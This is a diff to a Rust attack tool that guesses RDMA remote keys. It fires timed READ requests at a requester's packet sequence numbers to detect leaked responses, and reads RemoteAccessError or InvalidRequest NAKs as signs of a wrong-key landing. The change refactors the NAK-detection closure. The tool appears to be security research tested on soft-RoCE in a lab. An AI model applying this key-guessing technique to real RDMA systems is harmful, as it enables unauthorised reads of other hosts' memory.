@@ -206,7 +206,6 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
     let (req, resp) = (learner.l.requester.expect("ready"), learner.l.responder.expect("ready"));
     let mut buf = vec![0u8; 65536];
     let mut sent = 0u64;
-    // qpn-scan: (the QPN that answered, QPNs tried)
     // qpn-scan: (the QPN found, QPNs tried in the last pass, passes)
     let mut scan: Option<(Option<u32>, u32, u32)> = None;
     // the kind's own report, appended to the outcome line, and an outcome it decides itself
@@ -381,6 +380,14 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
             let leaked = |l: &Learner, by_psn: &std::collections::HashMap<u32, u32>| {
                 l.l.read_only_responses.iter().rev().find_map(|p| by_psn.get(&p.value()).copied())
             };
+            // the PSN of a new fatal NAK (a guess that landed with a wrong key)
+            let fatal = |l: &Learner| {
+                l.l.last_nak
+                    .as_ref()
+                    .filter(|n| Some(*n) != fatal_before.as_ref())
+                    .filter(|(_, k)| k == "RemoteAccessError" || k == "InvalidRequest")
+                    .map(|(p, _)| p.value())
+            };
             let (mut landed, mut leak) = (None, None);
             for i in 0..a.count.unwrap_or(4096) {
                 // one READ per 10 µs, each aimed afresh at or just ahead of the requester's
@@ -393,11 +400,9 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                     (landed, leak) = (Some(k), Some(k));
                     break;
                 }
-                if let Some((p, kind)) = learner.l.last_nak.clone().filter(|n| Some(n) != fatal_before.as_ref()) {
-                    if kind == "RemoteAccessError" || kind == "InvalidRequest" {
-                        landed = by_psn.get(&p.value()).copied();
-                        break;
-                    }
+                if let Some(p) = fatal(&learner) {
+                    landed = by_psn.get(&p).copied();
+                    break;
                 }
                 let key = match a.guess {
                     Guess::Sequential => {
@@ -421,18 +426,12 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
             // first (rxe in a TCG guest answered from 65 ms after the last of 4096), so wait until
             // it is quiet
             if leak.is_none() && landed.is_none() {
-                let fatal = |l: &Learner| {
-                    l.l.last_nak
-                        .as_ref()
-                        .filter(|n| Some(*n) != fatal_before.as_ref())
-                        .is_some_and(|(_, k)| k == "RemoteAccessError" || k == "InvalidRequest")
-                };
                 #[rustfmt::skip]
                 settle_until(&sock, &mut learner, &mut buf, Duration::from_millis(200), Duration::from_secs(3),
-                             |l| leaked(l, &by_psn).is_some() || fatal(l))?;
+                             |l| leaked(l, &by_psn).is_some() || fatal(l).is_some())?;
                 leak = leaked(&learner, &by_psn);
-                if fatal(&learner) {
-                    landed = learner.l.last_nak.as_ref().and_then(|(p, _)| by_psn.get(&p.value()).copied());
+                if let Some(p) = fatal(&learner) {
+                    landed = by_psn.get(&p).copied();
                 }
                 landed = leak.or(landed);
             }
